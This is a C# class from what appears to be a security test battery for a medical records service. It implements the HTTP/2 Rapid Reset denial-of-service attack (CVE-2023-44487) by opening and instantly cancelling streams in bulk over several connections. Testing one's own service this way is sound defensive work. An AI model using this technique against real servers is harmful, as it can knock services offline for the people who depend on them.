using MedRecords.Battery.Load.Http2;

namespace MedRecords.Battery.Rows.Security.Attacks;

/// <summary>Opens streams and resets each at once, so that no limit on open streams ever counts (CVE-2023-44487).</summary>
internal sealed class RapidReset : IAttack
{
    private const int Connections = 4;
    private const int StreamsPerRound = 100;
    private static readonly byte[] _cancel = [0, 0, 0, 8];

    /// <inheritdoc/>
    public string Name => "rapid reset";

    /// <inheritdoc/>
    public Task RunAsync(Target target, CancellationToken until)
    {
        var headers = target.CallOf("Charts/GetChart", target.Token);
        return Attackers.RunAsync(Connections, target, until, async (connection, round) =>
        {
            var frames = new List<byte>();
            for (var i = 0; i < StreamsPerRound; i++)
            {
                var stream = (2 * ((round * StreamsPerRound) + i)) + 1;
                frames.AddRange(HostileConnection.FrameOf(FrameType.Headers, FrameFlags.EndHeaders, stream, headers));
                frames.AddRange(HostileConnection.FrameOf(FrameType.ResetStream, FrameFlags.None, stream, _cancel));
            }

            await connection.SendAsync(frames.ToArray(), until);
            target.Hit(StreamsPerRound);
        });
    }
}
